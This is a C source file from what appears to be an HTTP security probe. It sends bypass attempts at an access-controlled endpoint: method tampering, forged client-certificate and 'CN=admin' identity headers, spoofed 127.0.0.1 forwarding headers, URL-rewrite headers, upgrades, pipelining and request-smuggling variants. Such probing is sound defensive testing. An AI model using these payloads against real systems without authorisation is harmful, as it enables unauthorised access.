/* SPDX-License-Identifier: Apache-2.0 */
#include "probe/attack_table.h"

/* --- methods --- */

void attack_verbs(struct attack_run *run)
{
    static const char *const METHODS[] = {"HEAD",  "POST",  "PUT",     "DELETE",   "OPTIONS",
                                          "PATCH", "TRACE", "CONNECT", "PROPFIND", "MKCOL",
                                          "MOVE",  "COPY",  "LOCK",    "SEARCH",   "PURGE",
                                          "DEBUG", "get",   "Get",     "FOO",      "GETX"};
    static const char *const OVERRIDES[] = {"X-HTTP-Method-Override", "X-HTTP-Method",
                                            "X-Method-Override"};
    for (size_t i = 0; i < COUNT_OF(METHODS); i++) {
        const struct attempt attempt = {.what = METHODS[i],
                                        .method = str_of(METHODS[i]),
                                        .fields = STR("Content-Length: 0\r\n")};
        (void)attack_try(run, &attempt);
    }
    for (size_t i = 0; i < COUNT_OF(OVERRIDES); i++) {
        const struct attempt attempt = {
            .what = arena_printf(run->arena, "POST with %s: GET", OVERRIDES[i]).p,
            .method = STR("POST"),
            .fields = arena_printf(run->arena, "Content-Length: 0\r\n%s: GET\r\n", OVERRIDES[i])};
        (void)attack_try(run, &attempt);
    }
    const struct attempt expect = {.what = "POST with Expect: 100-continue",
                                   .method = STR("POST"),
                                   .fields = STR("Expect: 100-continue\r\nContent-Length: 1\r\n"),
                                   .body = STR("x")};
    (void)attack_try(run, &expect);
}

/* --- fields --- */

static void try_field(struct attack_run *run, const char *name, const char *value)
{
    const struct attempt attempt = {
        .what = arena_printf(run->arena, "%s: %s", name, value).p,
        .fields = arena_printf(run->arena, "%s: %s\r\n", name, value),
    };
    (void)attack_try(run, &attempt);
}

void attack_fields(struct attack_run *run)
{
    static const char *const VERIFY[] = {"X-SSL-Client-Verify",  "X-Client-Verify",
                                         "X-SSL-Verify",         "SSL-Client-Verify",
                                         "ssl_client_verify",    "X_SSL_Client_Verify",
                                         "X.SSL.Client.Verify",  "x-ssl-client-verify",
                                         "X-SSL-Client-Verify ", "\tX-SSL-Client-Verify"};
    static const char *const NAMES[] = {
        "X-SSL-Client-S-DN", "X-SSL-Client-DN",         "X-Client-DN",
        "X-SSL-Client-CN",   "X-Remote-User",           "X-SSL-Client-Cert",
        "Client-Cert",       "X-Forwarded-Client-Cert", "X-ARR-ClientCert"};
    static const char *const ADDRESSES[] = {"X-Forwarded-For", "X-Real-IP", "Forwarded",
                                            "True-Client-IP"};
    static const char *const PATHS[] = {"X-Original-URL", "X-Rewrite-URL"};
    for (size_t i = 0; i < COUNT_OF(VERIFY); i++) {
        try_field(run, VERIFY[i], "SUCCESS");
    }
    for (size_t i = 0; i < COUNT_OF(NAMES); i++) {
        try_field(run, NAMES[i], "CN=admin");
    }
    for (size_t i = 0; i < run->field_names_n; i++) {
        try_field(run, arena_cstr(run->arena, run->field_names[i]), "SUCCESS");
    }
    for (size_t i = 0; i < COUNT_OF(ADDRESSES); i++) {
        try_field(run, ADDRESSES[i], "127.0.0.1");
    }
    const struct attempt named = {.what = "Connection names an identity header",
                                  .fields = STR("Connection: close, X-SSL-Client-Verify\r\n"
                                                "X-SSL-Client-Verify: SUCCESS\r\n")};
    (void)attack_try(run, &named);
    struct str open = attack_open_path(run);
    for (size_t i = 0; open.n && i < COUNT_OF(PATHS); i++) {
        const struct attempt attempt = {
            .what = arena_printf(run->arena, "an open path with %s", PATHS[i]).p,
            .target = open,
            .fields = arena_printf(run->arena, "%s: %.*s\r\n", PATHS[i], STR_ARG(run->door->path))};
        (void)attack_try(run, &attempt);
    }
}

void attack_upgrades(struct attack_run *run)
{
    static const struct {
        const char *what;
        struct str fields;
    } ROWS[] = {
        {"Upgrade: websocket",
         STR_INIT("Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                  "Sec-WebSocket-Key: eWV0dC1wcm9iZS15ZXR0LQ==\r\n")},
        {"Upgrade: h2c", STR_INIT("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                                  "HTTP2-Settings: AAMAAABkAAQAAP__\r\n")},
        {"Upgrade: TLS/1.0", STR_INIT("Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n")},
    };
    for (size_t i = 0; i < COUNT_OF(ROWS); i++) {
        const struct attempt attempt = {.what = ROWS[i].what, .fields = ROWS[i].fields};
        (void)attack_try(run, &attempt);
    }
}

/* --- several requests in one --- */

static struct str request_for_door(struct attack_run *run)
{
    const struct attempt straight = {.what = ""};
    return attack_request(run, &straight);
}

void attack_pipelines(struct attack_run *run)
{
    size_t n;
    struct other_name *others = attack_other_names(run, &n);
    struct str behind = request_for_door(run);
    struct attempt attempt = {.what = "a second request behind one for an open path",
                              .body = behind,
                              .replies = 2,
                              .target = attack_open_path(run),
                              .means_target = run->door->path};
    if (attempt.target.n) {
        (void)attack_try(run, &attempt);
    }
    for (size_t i = 0; run->door->secure && i < n; i++) {
        attempt.what = arena_printf(run->arena, "a second request behind one for %.*s",
                                    STR_ARG(others[i].name))
                           .p;
        attempt.sni = attempt.host = others[i].name;
        attempt.target = STR("/");
        attempt.means_host = run->door->host;
        (void)attack_try(run, &attempt);
    }
}

void attack_smuggling(struct attack_run *run)
{
    static const struct {
        const char *what;
        struct str before; /* the body until the hidden request */
        struct str fields;
    } ROWS[] = {
        {"Content-Length and Transfer-Encoding", STR_INIT("0\r\n\r\n"),
         STR_INIT("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n")},
        {"Transfer-Encoding with a blank", STR_INIT("0\r\n\r\n"),
         STR_INIT("Content-Length: 5\r\nTransfer-Encoding : chunked\r\n")},
        {"Transfer-Encoding twice", STR_INIT("0\r\n\r\n"),
         STR_INIT("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n")},
        {"two Content-Lengths", STR_INIT("x"),
         STR_INIT("Content-Length: 1\r\nContent-Length: 2\r\n")},
        {"Content-Length with a sign", STR_INIT("x"), STR_INIT("Content-Length: +1\r\n")},
        {"a line that ends in LF alone", STR_INIT("0\n\n"),
         STR_INIT("Transfer-Encoding: chunked\r\n")},
    };
    struct str open = attack_open_path(run);
    for (size_t i = 0; i < COUNT_OF(ROWS); i++) {
        const struct attempt attempt = {
            .what = ROWS[i].what,
            .method = STR("POST"),
            .target = open.n ? open : run->door->path,
            .fields = ROWS[i].fields,
            .body = arena_concat(run->arena, ROWS[i].before, request_for_door(run)),
            .replies = 2,
            .means_target = run->door->path};
        (void)attack_try(run, &attempt);
    }
}
